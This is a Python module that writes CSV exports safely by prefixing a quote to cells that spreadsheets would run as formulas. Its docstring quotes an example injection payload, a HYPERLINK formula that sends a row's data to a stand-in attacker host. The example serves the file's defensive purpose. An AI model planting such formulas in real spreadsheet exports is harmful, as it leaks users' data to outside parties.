"""The one CSV writer: every CSV policybot writes (the catalogue's radar export, the auditors'
exceptions and acknowledgements) is made here, with the csv module, and formula-safe.

Spreadsheets run a cell that starts with `=`, `+`, `-`, `@` (or a tab or carriage return
before one) as a formula: `=HYPERLINK("http://evil.example/?"&B2, …)` typed as an
exception's purpose would leak the row to whoever opens the export. Such a cell is written
with a leading `'`, which the spreadsheet shows as text. Leading spaces do not hide a formula
from this check.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable, Mapping, Sequence

# Spreadsheets run a cell that starts with one of these as a formula.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")

Row = Sequence[object] | Mapping[str, object]


def safe_cell(value: object) -> str:
    """`value` as CSV cell text that a spreadsheet shows and never runs."""
    text = "" if value is None else str(value)
    return "'" + text if text.lstrip(" ").startswith(FORMULA_STARTS) else text


def csv_text(columns: Sequence[str], rows: Iterable[Row], *, lineterminator: str = "\r\n") -> str:
    """A header of `columns`, then `rows` (sequences in column order, or mappings by column
    name; missing names are empty), every cell through `safe_cell`."""
    out = io.StringIO()
    writer = csv.writer(out, lineterminator=lineterminator)
    writer.writerow([safe_cell(c) for c in columns])
    for row in rows:
        cells = [row.get(c) for c in columns] if isinstance(row, Mapping) else list(row)
        writer.writerow([safe_cell(cell) for cell in cells])
    return out.getvalue()
